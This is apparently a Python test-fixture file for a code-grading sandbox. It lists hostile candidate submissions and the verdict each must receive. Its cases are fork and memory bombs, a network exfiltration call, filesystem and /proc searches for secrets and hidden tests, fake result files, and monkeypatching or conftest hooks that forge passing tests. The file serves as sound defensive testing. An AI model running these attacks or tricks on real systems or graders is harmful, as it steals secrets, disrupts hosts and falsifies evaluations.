"""The hostile submissions of the suite, and what grading each of them must give.

Every candidate submits two exercises of the dedicated catalogue in ``fixtures/catalogue``:
``q91_attacked`` carries the attack (a function replaced by hostile code, or hostile code at import
time, or hostile files shipped alongside) and ``q92_clean`` is always the honest solution. The
tests that the attack reaches are listed with their expected outcome and a substring of the
reason; every other test of the submission must score exactly as the honest candidate's.

Attacks that could hurt the host if a limit failed (fork bomb, memory bomb, disk fill) are bounded
in the candidate code itself, far above the sandbox's limit: a broken limit then shows up as a
wrong verdict in this suite instead of taking the CI machine down.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, field
from pathlib import Path

CATALOGUE = Path(__file__).resolve().parent / "fixtures" / "catalogue"
ATTACKED = "q91_attacked"
CLEAN = "q92_clean"
REFERENCE = (CATALOGUE / "solutions" / ATTACKED / "attacked.py").read_text()
CLEAN_SOURCE = (CATALOGUE / "solutions" / CLEAN / "clean.py").read_text()

# Secrets the harness must keep out of every sandbox and every results file.
HIDDEN_CANARY = "HIDDEN-CANARY-7c41d2"  # in the hidden tests of q91_attacked
SOLUTION_CANARY = "SOLUTION-CANARY-3b9e1f"  # in the reference solution
OTHER_CANDIDATE_CANARY = "OTHER-CANDIDATE-CANARY-51e0aa"  # in the honest candidate's files
ENV_CANARY_NAME = "GRADER_HOSTILE_SECRET"  # set in the grader's environment while grading
ENV_CANARY_VALUE = "ENV-CANARY-9d27c4"
CANARIES = (HIDDEN_CANARY, SOLUTION_CANARY, OTHER_CANDIDATE_CANARY, ENV_CANARY_VALUE)

T_SCALE = "tests/hidden/test_attacked.py::test_scale"
T_AVERAGE = "tests/hidden/test_attacked.py::test_average"
T_EMPTY = "tests/hidden/test_attacked.py::test_average_empty"
T_MAXIMUM = "tests/hidden/test_attacked.py::test_maximum"
ALL_ATTACKED = (T_SCALE, T_AVERAGE, T_EMPTY, T_MAXIMUM)


@dataclass(frozen=True)
class Expect:
    """The verdict of one attacked test: its outcome and a substring of its message."""

    outcome: str
    reason: str


@dataclass
class Case:
    """One hostile candidate."""

    name: str
    what: str  # the attack, in a few words (the suite's report table)
    module: str  # the source of q91_attacked/attacked.py
    expect: dict[str, Expect]  # attacked test id -> verdict (same in every sandbox)
    extra_files: dict[str, str] = field(default_factory=dict)  # more files in q91_attacked/
    per_sandbox: dict[str, dict[str, Expect]] = field(default_factory=dict)  # sandbox -> overrides
    log_contains: str = ""  # a substring of q91_attacked's captured log
    import_error: bool = False  # the module cannot be imported: q91's status is import_error

    def expected(self, sandbox: str) -> dict[str, Expect]:
        return {**self.expect, **self.per_sandbox.get(sandbox, {})}


def replaced(**functions: str) -> str:
    """The reference module with the named functions replaced by hostile versions."""
    source = REFERENCE
    for name, new in functions.items():
        start = source.index(f"def {name}(")
        end = source.find("\ndef ", start + 1)
        end = len(source) if end == -1 else end + 1
        source = source[:start] + textwrap.dedent(new).strip() + "\n\n\n" + source[end:]
    return source.replace('SECRET = "SOLUTION-CANARY-3b9e1f"  # must never reach a sandbox or a results file\n', "")


HONEST_MODULE = replaced()


def at_import(code: str) -> str:
    """The reference module preceded by hostile module-level code."""
    return textwrap.dedent(code).strip() + "\n\n" + HONEST_MODULE


# A walk over the whole file system without the trees that are big and public (the Python
# installation, /usr, /proc, /sys, /dev), so that it fits in a 2 s call.
WALK = """
        def walk():
            import os
            skip = ("/proc", "/sys", "/dev", "/usr")
            for root, dirs, files in os.walk("/"):
                dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(skip)
                           and d not in ("site-packages", "dist-packages", "__pycache__")
                           and not d.startswith("python3")]
                for name in files:
                    path = os.path.join(root, name)
                    if os.path.isfile(path) and not os.path.islink(path):
                        yield path


"""


TIMEOUT = Expect("timeout", "did not finish within 2.0 s")
CRASHED = Expect("crashed", "")

CASES: list[Case] = [
    # ---------------------------------------------------------------- resources and time
    Case("fork_bomb", "fork bomb: 200 children that each fork 4 more (bounded at 3200)", replaced(average="""
        def average(x):
            import os, time
            if x.numel() == 0:
                raise ValueError("empty")
            for _ in range(200):  # far above the limit of 64 processes
                if os.fork() == 0:
                    try:
                        for _ in range(4):
                            os.fork()
                    except OSError:
                        pass
                    time.sleep(30)
                    os._exit(0)
            return 0.5
        """), {T_AVERAGE: Expect("error", "process limit is 64"), T_EMPTY: Expect("passed", "")}),
    Case("memory_bomb", "allocates and touches memory until it is stopped (bounded at 8 GB)", replaced(average="""
        def average(x):
            if x.numel() == 0:
                raise ValueError("empty")
            blocks = []
            for _ in range(128):
                blocks.append(b"x" * (64 << 20))
            return 0.5
        """), {T_AVERAGE: Expect("memory_limit", "memory"), T_EMPTY: Expect("passed", "")}),
    Case("infinite_loop", "infinite loop", replaced(maximum="""
        def maximum(values):
            while True:
                pass
        """), {T_MAXIMUM: TIMEOUT}),
    Case("busy_threads", "busy threads on every core (GIL released)", replaced(maximum="""
        def maximum(values):
            import hashlib, os, threading
            data = b"x" * (16 << 20)
            def burn():
                while True:
                    hashlib.sha256(data).digest()  # releases the GIL: really one core each
            for _ in range(2 * (os.cpu_count() or 1)):
                threading.Thread(target=burn, daemon=True).start()
            burn()
        """), {T_MAXIMUM: TIMEOUT}),
    Case("sleep", "sleeps past every limit", replaced(maximum="""
        def maximum(values):
            import time
            time.sleep(3600)
            return max(values)
        """), {T_MAXIMUM: TIMEOUT}),
    Case("stdin", "blocks on stdin", replaced(maximum="""
        def maximum(values):
            import os, sys
            os.read(0, 1)
            sys.stdin.read()
            return int(input("answer? "))
        """), {T_MAXIMUM: Expect("error", "EOFError")}),
    Case("ignore_sigterm", "ignores SIGTERM, SIGINT and SIGHUP, then hangs", replaced(maximum="""
        def maximum(values):
            import signal
            for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                signal.signal(sig, signal.SIG_IGN)
            while True:
                pass
        """), {T_MAXIMUM: TIMEOUT}),
    Case("daemon", "double-forked setsid daemon that outlives its test", replaced(maximum="""
        def maximum(values):
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    for fd in range(3, 256):
                        try:
                            os.close(fd)
                        except OSError:
                            pass
                    while True:  # tries to disturb later tests
                        try:
                            with open("/tmp/daemon-was-here", "a") as fh:
                                fh.write("x")
                        except OSError:
                            pass
                        time.sleep(0.05)
                os._exit(0)
            return max(values)
        """), {T_MAXIMUM: Expect("passed", "")}),
    Case("output_flood", "floods stdout and stderr", replaced(maximum="""
        def maximum(values):
            import os, sys
            chunk = "A" * 65536
            while True:
                sys.stdout.write(chunk)
                os.write(2, chunk.encode())
        """), {T_MAXIMUM: TIMEOUT}, log_contains="more bytes of output dropped"),
    Case("disk_fill", "fills /tmp, its working folder (bounded at 2 GB)", replaced(maximum="""
        def maximum(values):
            import os
            block = b"x" * (1 << 20)
            for i in range(2048):
                with open(f"/tmp/fill-{i}", "wb") as fh:
                    fh.write(block)
            return max(values)
        """), {T_MAXIMUM: Expect("error", "No space left on device")}),
    Case("network", "connects out (TCP and UDP)", replaced(average="""
        def average(x):
            import socket
            if x.numel() == 0:
                raise ValueError("empty")
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                s.sendto(b"exfiltrate", ("1.1.1.1", 53))
            except OSError:
                pass
            socket.create_connection(("1.1.1.1", 80), timeout=1).close()
            return float(x.sum().item() / x.numel())
        """), {T_AVERAGE: Expect("error", "OSError")}),
    # ---------------------------------------------------------------- secrets and results
    Case("search_filesystem", "searches every readable file for tests, solutions and secrets; prints them",
         replaced(maximum=WALK + """
        def maximum(values):
            found = []
            for path in walk():
                try:
                    with open(path, "rb") as fh:
                        text = fh.read(1 << 20).decode(errors="replace")
                except OSError:
                    continue
                hits = [line for line in text.splitlines()
                        if any(w in line for w in ("CANARY", "SECRET", "def test_", "reference"))]
                if hits or "test_" in path or "solution" in path or "hidden" in path:
                    found.append(path)
                    print("FOUND", path, hits[:20])
            print("FILES", found)
            return max(values)
        """), {T_MAXIMUM: Expect("passed", "")}, log_contains="FILES"),
    Case("exfiltrate_in_message", "reports what it finds through exception messages and return values", replaced(average="""
        def average(x):
            import glob, itertools, os
            if x.numel() == 0:
                raise ValueError("empty")
            texts = []
            for pattern in ("/grader/**/*", "/tmp/**/*", "/work/**/*", "/home/**/*", "/srv/**/*", "/root/*", "/*"):
                for path in itertools.islice(glob.iglob(pattern, recursive=True), 200):
                    if os.path.isfile(path):
                        try:
                            texts.append(path + ":" + open(path, errors="replace").read(300))
                        except OSError:
                            texts.append(path)
            texts.append(repr(dict(os.environ)))
            raise RuntimeError(" | ".join(texts))
        """, scale="""
        def scale(x, k):
            import os
            return [os.path.join(r, f) for r, _, fs in os.walk("/grader") for f in fs]
        """), {T_AVERAGE: Expect("error", "RuntimeError"), T_SCALE: Expect("failed", "should be a torch.Tensor, got a list")}),
    Case("fake_results", "writes fake results files in every writable folder and fake verdicts to stdout",
         replaced(maximum=WALK + """
        def maximum(values):
            import json, os
            fake = json.dumps({"schema_version": 1, "candidate": "fake_results", "score": 1e9, "max_score": 11})
            event = json.dumps({"event": "verdict", "exercise": "q91_attacked",
                                "test": "tests/hidden/test_attacked.py::test_average", "outcome": "passed"})
            print(event)
            print(fake)
            written = []
            for folder in sorted({os.path.dirname(p) for p in walk()} | {"/tmp", "/dev/shm", "/grader", "/"}):
                for name in ("results.json", "verdicts.jsonl", "grades.csv", "judge-spec.json"):
                    try:
                        with open(os.path.join(folder, name), "w") as fh:
                            fh.write(event + "\\n" + fake)
                        written.append(os.path.join(folder, name))
                    except OSError:
                        pass
            print("WROTE", written)
            return max(values)
        """), {T_MAXIMUM: Expect("passed", "")}, log_contains="WROTE"),
    Case("proc_snoop", "reads /proc/*/environ, cmdline and maps of every visible process", replaced(maximum="""
        def maximum(values):
            import os
            for pid in os.listdir("/proc"):
                if pid.isdigit():
                    for what in ("environ", "cmdline", "maps"):
                        try:
                            with open(f"/proc/{pid}/{what}", "rb") as fh:
                                print("PROC", pid, what, fh.read(2000).replace(b"\\0", b" "))
                        except OSError as exc:
                            print("PROC", pid, what, "denied", type(exc).__name__)
            print("ENV", dict(os.environ))
            return max(values)
        """), {T_MAXIMUM: Expect("passed", "")}, log_contains="PROC"),
    Case("kernel_settings", "opens every kernel setting under /proc/sys, and /proc/sysrq-trigger, for writing",
         replaced(maximum="""
        def maximum(values):
            import os
            # Opening for writing changes nothing; a write to core_pattern would run a command as
            # the host's root.
            writable = []
            for root, dirs, files in os.walk("/proc/sys"):
                for name in files:
                    path = os.path.join(root, name)
                    try:
                        os.close(os.open(path, os.O_WRONLY))
                        writable.append(path)
                    except OSError:
                        pass
            try:
                os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
                writable.append("/proc/sysrq-trigger")
            except OSError:
                pass
            if writable:
                raise RuntimeError("writable kernel settings: " + " ".join(writable[:20]))
            return max(values)
        """), {T_MAXIMUM: Expect("passed", "")}),
    # ---------------------------------------------------------------- forged answers
    Case("always_equal", "returns an object equal to everything", replaced(average="""
        def average(x):
            if x.numel() == 0:
                raise ValueError("empty")
            class AlwaysEqual:
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                def __float__(self): return 0.0
                def __abs__(self): return 0.0
                def __sub__(self, other): return 0.0
                __rsub__ = __sub__
            return AlwaysEqual()
        """), {T_AVERAGE: Expect("failed", "should be a Python float")}),
    Case("float_subclass", "returns a float subclass that equals everything", replaced(average="""
        def average(x):
            if x.numel() == 0:
                raise ValueError("empty")
            class Liar(float):
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                def __sub__(self, other): return 0.0
                def __rsub__(self, other): return 0.0
                def __abs__(self): return 0.0
            return Liar(123.0)
        """), {T_AVERAGE: Expect("failed", "should be a Python float")}),
    Case("tensor_subclass", "returns a tensor subclass whose __torch_function__ answers True", replaced(scale="""
        def scale(x, k):
            class Liar(torch.Tensor):
                def __eq__(self, other): return True
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    return True
            return torch.zeros_like(x).as_subclass(Liar)
        """), {T_SCALE: Expect("failed", "entries differ")}),
    Case("patch_builtins", "monkeypatches builtins at import", at_import("""
        import builtins
        builtins.abs = lambda x: 0
        builtins.all = lambda it: True
        builtins.any = lambda it: True
        builtins.round = lambda *a, **k: 0
        """).replace("return float(x.sum().item() / x.numel())", "return 123.0"),
        {T_AVERAGE: Expect("failed", "average is off by")}),
    Case("patch_torch_testing", "monkeypatches torch.testing and torch comparisons at import", at_import("""
        import torch
        import torch.testing
        torch.testing.assert_close = lambda *a, **k: None
        torch.allclose = lambda *a, **k: True
        torch.equal = lambda *a, **k: True
        torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
        torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
        """).replace("return x * k", "return torch.zeros_like(x)"),
        {T_SCALE: Expect("failed", "entries differ")}),
    Case("patch_math", "monkeypatches math at import", at_import("""
        import math
        math.isclose = lambda *a, **k: True
        math.isnan = lambda x: True
        math.isfinite = lambda x: True
        """).replace("return float(x.sum().item() / x.numel())", "return 123.0"),
        {T_AVERAGE: Expect("failed", "average is off by")}),
    Case("patch_time", "replaces time.time/monotonic/perf_counter at import, then sleeps", at_import("""
        import time
        _sleep = time.sleep
        time.time = time.monotonic = time.perf_counter = lambda: 0.0
        time.sleep = lambda s: _sleep(3600)
        """).replace("return max(values)", "time.sleep(0.001)\n    return max(values)"),
        {T_MAXIMUM: TIMEOUT}),
    Case("nan_inf", "returns NaN and inf", replaced(average="""
        def average(x):
            if x.numel() == 0:
                raise ValueError("empty")
            return float("nan")
        """, scale="""
        def scale(x, k):
            return torch.full_like(x, float("inf"))
        """), {T_AVERAGE: Expect("failed", "average is off by nan"), T_SCALE: Expect("failed", "entries differ")}),
    Case("mutate_inputs", "zeroes its inputs in place so that the expected value would match", replaced(average="""
        def average(x):
            if x.numel() == 0:
                raise ValueError("empty")
            x.zero_()
            return 0.0
        """, scale="""
        def scale(x, k):
            x.zero_()
            return x
        """), {T_AVERAGE: Expect("failed", "average is off by"), T_SCALE: Expect("failed", "entries differ")}),
    # ---------------------------------------------------------------- exits and kills
    Case("sys_exit_import", "sys.exit(0) at import", at_import("import sys\nsys.exit(0)"),
         {t: Expect("error", "import failed: SystemExit") for t in ALL_ATTACKED}, import_error=True),
    Case("os_exit_import", "os._exit(0) at import", at_import("import os\nos._exit(0)"),
         {t: Expect("crashed", "exited (status 0)") for t in ALL_ATTACKED}),
    Case("sys_exit", "sys.exit(0) in a function", replaced(average="""
        def average(x):
            import sys
            sys.exit(0)
        """), {T_AVERAGE: Expect("error", "SystemExit"), T_EMPTY: Expect("error", "SystemExit")}),
    Case("os_exit", "os._exit(0) in a function", replaced(average="""
        def average(x):
            import os
            os._exit(0)
        """), {T_AVERAGE: Expect("crashed", "exited (status 0)"), T_EMPTY: Expect("crashed", "exited (status 0)")}),
    Case("kill_parent", "SIGKILLs its parent (the zygote)", replaced(average="""
        def average(x):
            import os, signal, time
            if x.numel() == 0:
                raise ValueError("empty")
            os.kill(os.getppid(), signal.SIGKILL)
            time.sleep(5)
            return 0.5
        """), {T_AVERAGE: CRASHED, T_EMPTY: Expect("passed", "")}),
    Case("kill_process_group", "SIGKILLs the zygote's process group and its own", replaced(average="""
        def average(x):
            import os, signal, time
            if x.numel() == 0:
                raise ValueError("empty")
            try:
                os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
            except OSError:
                pass
            os.killpg(0, signal.SIGKILL)
            time.sleep(5)
            return 0.5
        """), {T_AVERAGE: CRASHED, T_EMPTY: Expect("passed", "")}),
    Case("kill_everything", "kill(-1, SIGKILL): every process it may signal", replaced(average="""
        def average(x):
            import os, signal, time
            if x.numel() == 0:
                raise ValueError("empty")
            os.kill(-1, signal.SIGKILL)
            time.sleep(5)
            return 0.5
        """), {T_AVERAGE: CRASHED, T_EMPTY: Expect("passed", "")}),
    # ---------------------------------------------------------------- the test runner
    Case("pytest_files", "ships conftest.py, pytest.ini, pytest.py, sitecustomize.py", HONEST_MODULE.replace(
        "return float(x.sum().item() / x.numel())", "return 123.0"),
        {T_AVERAGE: Expect("failed", "average is off by")}, extra_files={
            "conftest.py": """
                import pytest

                @pytest.hookimpl(wrapper=True)
                def pytest_runtest_makereport(item, call):
                    report = yield
                    report.outcome = "passed"
                    return report
                """,
            "pytest.ini": "[pytest]\naddopts = -p no:grader --co\n",
            "pytest.py": "import sys\nsys.exit(0)\n",
            "sitecustomize.py": "import builtins\nbuiltins.float = lambda *a: 123.0\n",
            "usercustomize.py": "import builtins\nbuiltins.float = lambda *a: 123.0\n",
        }),
    # ---------------------------------------------------------------- returns and the channel
    Case("deep_recursion", "unbounded recursion through C code with the recursion limit lifted", replaced(maximum="""
        def maximum(values):
            import sys
            sys.setrecursionlimit(10 ** 8)
            def down(n):
                return list(map(down, [n + 1]))  # each level costs C stack: it overflows
            return down(0)
        """), {T_MAXIMUM: Expect("crashed", "SIGSEGV")}),
    Case("deep_nesting", "returns a list nested 100 000 levels deep", replaced(maximum="""
        def maximum(values):
            nested = []
            for _ in range(100_000):
                nested = [nested]
            return nested
        """), {T_MAXIMUM: Expect("error", "could not be sent back")}),
    Case("huge_return", "returns an 8 MB string and a 4 GB tensor", replaced(maximum="""
        def maximum(values):
            return "x" * (8 << 20)
        """, average="""
        def average(x):
            if x.numel() == 0:
                raise ValueError("empty")
            return torch.zeros(1).expand(1 << 30)  # 4 GB once made contiguous to be sent
        """), {T_MAXIMUM: Expect("failed", "should be a Python int, got a str"),
               T_AVERAGE: Expect("memory_limit", "memory")}),
    Case("garbage_on_channel", "writes garbage frames on every pipe it holds", replaced(maximum="""
        def maximum(values):
            import os, stat, time
            for fd in range(3, 64):
                try:
                    if stat.S_ISFIFO(os.fstat(fd).st_mode):
                        os.write(fd, b"\\xff" * 9 + b"garbage")
                except OSError:
                    pass
            time.sleep(5)
            return max(values)
        """), {T_MAXIMUM: Expect("error", "output limit")}),
    Case("slow_import", "an import that takes minutes", at_import("import time\ntime.sleep(600)"),
         {t: Expect("timeout", "importing attacked.py did not finish within 2.0 s") for t in ALL_ATTACKED}),
]

CASE_BY_NAME = {c.name: c for c in CASES}
assert len(CASE_BY_NAME) == len(CASES), "case names must be unique"


def write_batch(batch: Path, cases: list[Case] | None = None) -> None:
    """The batch: the honest candidate plus one candidate per case."""
    honest = batch / "honest"
    (honest / ATTACKED).mkdir(parents=True)
    (honest / CLEAN).mkdir(parents=True)
    (honest / ATTACKED / "attacked.py").write_text(HONEST_MODULE + f"\n# {OTHER_CANDIDATE_CANARY}\n")
    (honest / CLEAN / "clean.py").write_text(CLEAN_SOURCE + f"\n# {OTHER_CANDIDATE_CANARY}\n")
    for case in CASES if cases is None else cases:
        folder = batch / case.name
        (folder / ATTACKED).mkdir(parents=True)
        (folder / CLEAN).mkdir(parents=True)
        (folder / ATTACKED / "attacked.py").write_text(case.module)
        for name, text in case.extra_files.items():
            (folder / ATTACKED / name).write_text(textwrap.dedent(text).lstrip())
        (folder / CLEAN / "clean.py").write_text(CLEAN_SOURCE)
